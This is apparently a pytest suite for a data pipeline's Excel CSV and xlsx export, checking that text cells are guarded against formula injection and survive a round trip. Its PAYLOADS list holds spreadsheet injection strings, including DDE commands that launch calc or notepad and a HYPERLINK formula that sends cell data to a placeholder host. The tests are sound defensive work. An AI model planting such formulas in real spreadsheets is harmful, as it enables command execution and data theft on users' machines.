"""What people open in Excel: no formula ever, texts that come back whole, negative numbers as they are."""

import csv
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from flows.publish import workbook
from flows.publish.contents import Contents
from flows.publish.excel import FORMULA, TABLES, guard_text, needs_guard, write_excel_csv, write_rows
from flows.publish.workbook import SHEETS, write_workbook
from flows.registry import Registry

CREATED = datetime(2026, 11, 25, tzinfo=UTC)
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?x="&A1,"ok")', "=IMPORTXML(A1,B1)", "=WEBSERVICE(A1)",
    "+1+1", "+cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "-@SUM(A1)", "--1",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "＝1+1", "＋1+1",
    "＠SUM(A1)", "－cmd", "=\n1+1", "+A1", "=DDE(\"cmd\",\"/C calc\",\"x\")", "@A1", "=-1", "'=1+1", "%0A=1+1\n=1",
)  # fmt: skip
NEGATIVE = ("-5", "-0.5", "-1,204", "-13993.25", "－5", "−12", "-1.50", "-007", "-3%", "-12345678901234")


@pytest.fixture(scope="module")
def tables(package: Path, registry: Registry) -> dict[str, pa.Table]:
    names = [each["name"] for each in registry.package["resources"]]
    return {name: pq.read_table(package / f"{name}.parquet") for name in names}


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def unguard(cell: str) -> str:
    return cell.removeprefix("'")


# CSV for Excel


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_as_a_formula_and_each_comes_back_whole(payload: str, tmp_path: Path) -> None:
    write_rows(pa.table({"text": [payload], "value": [-5.0]}), tmp_path / "t.csv")
    _, (cell, number) = read_back(tmp_path / "t.csv")
    assert cell.startswith("'") or not FORMULA.match(cell)
    assert not cell.lstrip().startswith(("=", "+", "@"))
    assert (unguard(cell) if needs_guard(payload) else cell) == payload
    assert number == "-5"


@pytest.mark.parametrize("text", NEGATIVE)
def test_a_negative_number_is_never_touched(text: str) -> None:
    assert guard_text(text) == text


@pytest.mark.parametrize("text", ["011000", "123456789012", "1E5", "1-2", "3/4", "12:30", "3月4日", "2018年3月", "(5)",
                                  "007", "50%", "MAR1", "sept2", "1 1/2", "TRUE", "'x", "2018-01-02"])  # fmt: skip
def test_a_text_that_excel_would_change_is_marked(text: str) -> None:
    assert guard_text(text) == f"'{text}"


@pytest.mark.parametrize("text", ["怀柔区", "110116", "1,204", "0", "3.5", "table 2 r14 c7", "v2014.reply.total", "", "—",
                                  "V14-REPLY-SUM", "2.重复申请", "1a2b3c4d5e6f", "May not be compared"])  # fmt: skip
def test_a_text_that_excel_leaves_as_it_is_is_not_marked(text: str) -> None:
    assert guard_text(text) == text


@given(st.text(max_size=12))
def test_every_text_comes_back(text: str) -> None:
    cell = guard_text(text)
    assert (unguard(cell) if cell.startswith("'") else cell) == text
    assert cell.startswith("'") or not cell.startswith(("=", "+", "@", "\t", "\r"))


def test_the_csv_for_excel_holds_the_rows_of_the_package(package: Path, tables: dict[str, pa.Table]) -> None:
    for name in TABLES:
        content = (package / f"{name}.excel.csv").read_bytes()
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.endswith(b"\r\n")
        with (package / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            plain = list(csv.reader(file))
        texts = [pa.types.is_string(field.type) for field in tables[name].schema]
        rows = read_back(package / f"{name}.excel.csv")
        assert rows[0] == plain[0]
        back = [
            [unguard(cell) if text else cell for cell, text in zip(row, texts, strict=True)]
            for row in rows[1:]
        ]
        assert back == plain[1:]


def test_a_line_end_inside_a_cell_stays_what_it_was(tmp_path: Path) -> None:
    write_rows(pa.table({"text": ["a\nb", "c\rd", 'e "f", g', None]}), tmp_path / "t.csv")
    assert (
        tmp_path / "t.csv"
    ).read_bytes() == '\ufefftext\r\n"a\nb"\r\n"c\rd"\r\n"e ""f"", g"\r\n""\r\n'.encode()


def test_a_table_that_no_sheet_can_hold_has_no_csv_for_excel(
    registry: Registry, tables: dict[str, pa.Table], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("flows.publish.excel.ROWS", tables["observations"].num_rows)
    written = write_excel_csv(Contents(registry, tables, "2026.11.0", CREATED), tmp_path)
    assert "observations.excel.csv" not in written
    assert {path.name for path in tmp_path.iterdir()} == set(written)
    assert "findings.excel.csv" in written


# gongkai.xlsx


def test_the_workbook_holds_the_main_tables_and_codes_are_texts(
    package: Path, tables: dict[str, pa.Table]
) -> None:
    book = CalamineWorkbook.from_path(str(package / "gongkai.xlsx"))
    assert book.sheet_names == ["metadata", "columns", *SHEETS]
    for name in SHEETS:
        headings, *rows = book.get_sheet_by_name(name).to_python()
        assert headings == tables[name].column_names
        assert len(rows) == tables[name].num_rows
        for at, field in enumerate(tables[name].schema):
            given = [row[at] for row in rows]
            if pa.types.is_string(field.type):
                expected: list[Any] = [text or "" for text in tables[name].column(at).to_pylist()]
                assert given == expected, f"{name}.{field.name}"
            elif pa.types.is_floating(field.type) or pa.types.is_integer(field.type):
                expected = ["" if value is None else value for value in tables[name].column(at).to_pylist()]
                assert given == expected, f"{name}.{field.name}"


def test_the_workbook_says_what_it_is(package: Path, tables: dict[str, pa.Table]) -> None:
    book = CalamineWorkbook.from_path(str(package / "gongkai.xlsx"))
    said = " ".join(str(cell) for row in book.get_sheet_by_name("metadata").to_python() for cell in row)
    for part in (
        "2026.11.0",
        "CC-BY-4.0",
        "[Data set]",
        "[DS]",
        "怀柔区 (Huairou District)",
        "never a zero",
        "绝不等于0",
    ):
        assert part in said
    _, *columns = book.get_sheet_by_name("columns").to_python()
    assert [(row[0], row[1]) for row in columns] == [
        (name, column) for name in SHEETS for column in tables[name].column_names
    ]
    assert all(row[3] and row[4] and row[5] and row[6] for row in columns)


def hostile(registry: Registry, tables: dict[str, pa.Table]) -> Contents:
    """Return contents whose reports have every payload for a title."""
    reports = tables["reports"]
    at = reports.column_names.index("title")
    titles = [*PAYLOADS, *NEGATIVE, "007", "x" * 40_000] * reports.num_rows
    changed = reports.set_column(at, "title", pa.array(titles[: reports.num_rows], pa.string()))
    return Contents(registry, {**tables, "reports": changed}, "2026.11.0", CREATED)


def test_no_cell_of_a_workbook_is_a_formula(
    registry: Registry, tables: dict[str, pa.Table], tmp_path: Path
) -> None:
    contents = hostile(registry, tables)
    write_workbook(contents, tmp_path)
    book = openpyxl.load_workbook(tmp_path / "gongkai.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 10_000
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    at = contents.tables["reports"].column_names.index("title")
    _, *rows = (
        CalamineWorkbook.from_path(str(tmp_path / "gongkai.xlsx")).get_sheet_by_name("reports").to_python()
    )
    read = [row[at] for row in rows]
    for text, cell in zip([*PAYLOADS, *NEGATIVE, "007"], read, strict=False):
        if text.isprintable() and text == text.strip():
            assert cell == text
    long = read[len(PAYLOADS) + len(NEGATIVE) + 1]
    assert len(long) == 32_767
    assert long.endswith("此处截断，全文见 CSV)")


def test_sheets_have_a_frozen_heading_a_filter_and_widths(package: Path) -> None:
    book = openpyxl.load_workbook(package / "gongkai.xlsx")
    for name in SHEETS:
        assert book[name].freeze_panes == "A2"
        assert book[name].auto_filter.ref.startswith("A1:")
        assert book[name].column_dimensions["A"].width > 10
    assert book.properties.created == datetime(2026, 11, 25)


def test_a_table_that_no_sheet_can_hold_is_named_not_cut(
    registry: Registry, tables: dict[str, pa.Table], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "ROWS", tables["observations"].num_rows)
    write_workbook(Contents(registry, tables, "2026.11.0", CREATED), tmp_path)
    book = CalamineWorkbook.from_path(str(tmp_path / "gongkai.xlsx"))
    said = " ".join(str(cell) for row in book.get_sheet_by_name("observations").to_python() for cell in row)
    assert "observations.csv" in said
    assert "超过工作表上限" in said
    assert len(book.get_sheet_by_name("findings").to_python()) == tables["findings"].num_rows + 1


def test_the_same_tables_give_the_same_workbook_whatever_the_umask(
    registry: Registry, tables: dict[str, pa.Table], tmp_path: Path
) -> None:
    contents, files = hostile(registry, tables), []
    for umask in (0o022, 0o077):
        folder = tmp_path / str(umask)
        folder.mkdir()
        before = os.umask(umask)
        try:
            write_workbook(contents, folder)
        finally:
            os.umask(before)
        assert [path.name for path in folder.iterdir()] == ["gongkai.xlsx"]
        files.append((folder / "gongkai.xlsx").read_bytes())
    assert files[0] == files[1]
